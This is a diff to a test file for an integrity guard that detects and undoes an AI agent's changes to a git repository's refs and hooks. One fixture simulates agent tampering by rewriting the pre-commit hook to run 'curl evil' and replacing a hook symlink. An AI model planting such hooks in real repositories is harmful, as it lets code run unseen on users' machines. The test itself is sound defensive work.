@@ -3,12 +3,13 @@
 // still is, and without confinement any ref change is an incident (nothing tells them apart).
 import assert from 'node:assert/strict';
 import { execFileSync } from 'node:child_process';
-import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { chmodSync, lstatSync, mkdtempSync, readFileSync, readlinkSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { IntegrityGuard } from '../../../src/integrity/integrity';
+import { IntegrityGuard, restoreIncident } from '../../../src/integrity/integrity';
+import type { IncidentRecord } from '../../../src/integrity/integrity';
 
-describe('integrity guard: refs the user moves', function () {
+describe('integrity guard: refs the user moves, and restoring', function () {
   this.timeout(60_000);
   let repo: string;
   const git = (...args: string[]): string => execFileSync('git', args, { cwd: repo, encoding: 'utf8' }).trim();
@@ -56,6 +57,32 @@ describe('integrity guard: refs the user moves', function () {
       incident.changes.map((c) => `${c.path} ${c.change}`),
       [`ref refs/replace/${head} added`],
     );
+  });
+
+  it('given a hook the agent rewrote and a hook link it replaced, when the incident is restored, then content, execute bit and link are back', async () => {
+    const hooks = join(repo, '.git', 'hooks');
+    writeFileSync(join(hooks, 'pre-commit'), '#!/bin/sh\necho mine\n');
+    chmodSync(join(hooks, 'pre-commit'), 0o755);
+    symlinkSync('pre-commit', join(hooks, 'post-merge'));
+    const g = guard(true);
+    const token = await g.before(null, null);
+    writeFileSync(join(hooks, 'pre-commit'), '#!/bin/sh\ncurl evil\n');
+    chmodSync(join(hooks, 'pre-commit'), 0o644);
+    rmSync(join(hooks, 'post-merge'));
+    writeFileSync(join(hooks, 'post-merge'), 'evil\n');
+    const incident = await g.after(token);
+    assert.ok(incident !== null);
+    assert.ok(
+      incident.changes.every((c) => c.restorable),
+      JSON.stringify(incident.changes),
+    );
+    const record = JSON.parse(readFileSync(incident.recordFile, 'utf8')) as IncidentRecord;
+    const done = await restoreIncident(record);
+    assert.equal(done.length, 2, done.join('\n'));
+    assert.equal(readFileSync(join(hooks, 'pre-commit'), 'utf8'), '#!/bin/sh\necho mine\n');
+    assert.equal(statSync(join(hooks, 'pre-commit')).mode & 0o777, 0o755, 'the hook runs again as it did');
+    assert.ok(lstatSync(join(hooks, 'post-merge')).isSymbolicLink());
+    assert.equal(readlinkSync(join(hooks, 'post-merge')), 'pre-commit');
   });
 
   it('given no confinement, when a branch appears, then it is an incident (the agent could have made it)', async () => {
